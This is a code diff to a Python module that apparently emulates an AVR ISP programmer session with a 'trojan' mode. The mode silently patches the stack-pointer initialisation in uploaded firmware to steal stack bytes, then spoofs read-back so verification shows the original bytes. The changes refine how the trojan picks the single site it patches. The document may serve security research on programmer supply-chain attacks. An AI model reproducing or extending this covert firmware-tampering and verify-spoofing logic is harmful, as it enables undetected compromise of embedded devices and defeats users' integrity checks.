@@ -64,6 +64,8 @@ SIGNATURE = b"AVRISP_2"
 # a page travels after three bytes (command and size, or command and
 # status plus the trailing status) in a body of at most 0xFFFF bytes
 _MAX_PAGE_SIZE = 0xFFFF - 3
+# bytes of an 8-byte SP init sequence that can lie outside the write holding one of its bytes
+_FRINGE = 7
 
 _LOAD_ADDRESS_OK = bytes((CMD_LOAD_ADDRESS, STATUS_CMD_OK))
 _PROGRAM_FLASH_OK = bytes((CMD_PROGRAM_FLASH, STATUS_CMD_OK))
@@ -206,11 +208,14 @@ class BootSession:
     init sequence and lowers the SPL immediate by avr.DEFAULT_STEAL_BYTES
     the moment the whole 8-byte pattern is resident.  Read-back requests
     overlapping the patched word are reverted on the fly, so a verify pass
-    sees exactly the uploaded bytes.  If the immediate cannot take the
-    subtraction the session stays dormant and nothing is patched or
-    spoofed.  The session patches at most once, at ``sp_site``; ``_patch``
-    holds the two bytes the patch replaced until a later write covers
-    either of them, and from then on reads show the stored bytes.
+    sees exactly the uploaded bytes.  The first site to be wholly received
+    decides for the whole session (the lowest offset, if one write
+    completes several, as in avr.find_sp_init), and no write is scanned
+    after it: if its immediate cannot take the subtraction the session
+    stays dormant, ``sp_site`` stays None and nothing is patched or
+    spoofed.  The session patches at most once, at ``sp_site``;
+    ``_patch`` holds the two bytes the patch replaced until a later write
+    covers either of them, and from then on reads show the stored bytes.
     """
 
     image: FlashImage
@@ -218,12 +223,15 @@ class BootSession:
     load_address: int = field(default=0, init=False)
     sp_site: SpInitSite | None = field(default=None, init=False)
     _patch: bytes | None = field(default=None, init=False)
+    # True until a wholly received site decides the session
+    _scanning: bool = field(init=False, repr=False)
     # one byte per application-region address, nonzero once the session
     # has received that byte
     _received: bytearray = field(init=False, repr=False)
 
     def __post_init__(self):
         self._received = bytearray(self.layout.boot_start)
+        self._scanning = self.trojan_enabled
 
     @property
     def layout(self) -> MemoryLayout:
@@ -256,19 +264,20 @@ class BootSession:
         self.load_address = end
         if self._patch is not None and start - 2 < self.sp_site.offset < end:
             self._patch = None  # the patched word was overwritten: nothing left to hide
-        if self.trojan_enabled and self.sp_site is None:
+        if self._scanning:
             self._scan_for_sp_init(start, end)
         return _PROGRAM_FLASH_OK
 
     def _scan_for_sp_init(self, page_start: int, page_end: int):
-        # The pattern must include at least one byte of the new page, so a
-        # 7-byte fringe on each side covers page-straddling layouts.
-        lo = max(0, page_start - 7)
-        lo += lo % 2
-        hi = min(self.layout.boot_start, page_end + 7)
+        # Only a site holding a byte of the new page can have been completed
+        # by it, so a fringe on each side covers page-straddling layouts;
+        # _sp_init_sites skips the odd offsets.
+        lo = max(0, page_start - _FRINGE)
+        hi = min(self.layout.boot_start, page_end + _FRINGE)
         for site in avr._sp_init_sites(self.image.data, lo, hi):
             if 0 in self._received[site.offset : site.offset + 8]:
                 continue
+            self._scanning = False
             try:
                 self._patch = apply_stack_steal(self.image, site)
             except avr.DormantAbort:
